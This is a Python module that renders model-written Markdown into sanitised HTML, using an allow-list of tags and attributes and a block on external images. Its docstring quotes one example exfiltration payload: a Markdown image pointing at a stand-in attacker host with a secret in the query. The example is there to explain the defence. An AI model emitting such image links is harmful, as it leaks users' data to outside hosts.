"""Model output → safe HTML: Markdown (markdown-it-py), code highlighted (Pygments), then sanitised (nh3).

Model text is hostile. Raw HTML in it is escaped by the Markdown step, and nh3 then keeps only an
allow-list of tags and attributes, so even a bug in the first two steps can't let script through.
Links keep only http/https/mailto and get rel="noopener nofollow noreferrer"; images are kept only as
`data:` URLs, so `![x](https://evil.example/?q=secret)` can't leak anything by being fetched.
"""

from __future__ import annotations

import html
from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name, guess_lexer
from pygments.util import ClassNotFound

MAX_HIGHLIGHT = 100_000
_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")
_LINK_SCHEMES = ("http://", "https://", "mailto:")
_IMAGE_PREFIXES = ("data:image/png;", "data:image/jpeg;", "data:image/webp;", "data:image/gif;")

_TAGS = {
    "a",
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "img",
    "span",
    "div",
    "button",
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    "code": {"class"},
    "span": {"class"},
    "div": {"class", "data-lang"},
    "pre": {"class"},
    "button": {"class", "type", "data-copy", "aria-label"},
}


def _highlight(code: str, lang: str) -> str:
    if len(code) > MAX_HIGHLIGHT:
        return html.escape(code)
    try:
        lexer = get_lexer_by_name(lang) if lang else guess_lexer(code)
    except ClassNotFound:
        return html.escape(code)
    return highlight(code, lexer, _FORMATTER)


def _fence(self, tokens, idx, options, env) -> str:  # noqa: ANN001 - markdown-it's renderer signature
    token = tokens[idx]
    lang = token.info.strip().split(maxsplit=1)[0] if token.info.strip() else ""
    label = html.escape(lang[:30])
    return (
        f'<div class="code" data-lang="{label}">'
        '<button class="copy" type="button" data-copy aria-label="Copy code">Copy</button>'
        f'<pre class="highlight"><code>{_highlight(token.content, lang)}</code></pre></div>\n'
    )


def _image(self, tokens, idx, options, env) -> str:  # noqa: ANN001
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = html.escape(self.renderInlineAsText(token.children or [], options, env))
    if src.startswith(_IMAGE_PREFIXES):
        return f'<img src="{html.escape(src)}" alt="{alt}">'
    return f'<span class="blocked-image">[image: {alt or "external"}]</span>'


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image)
    return md


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "href":
        return value if value.lower().startswith(_LINK_SCHEMES) else None
    if attribute == "src":
        return value if tag == "img" and value.startswith(_IMAGE_PREFIXES) else None
    return value


@lru_cache(maxsize=1)
def _cleaner() -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=_TAGS,
        clean_content_tags={"script", "style"},
        attributes=_ATTRIBUTES,
        attribute_filter=_filter_attribute,
        url_schemes={"http", "https", "mailto", "data"},
        url_relative="deny",
        link_rel="noopener nofollow noreferrer",
    )


def render_markdown(text: str) -> str:
    """Sanitised HTML for model (or user) Markdown; safe to put into a page with `|safe` or innerHTML."""
    if not text:
        return ""
    return _cleaner().clean(_markdown().render(text))
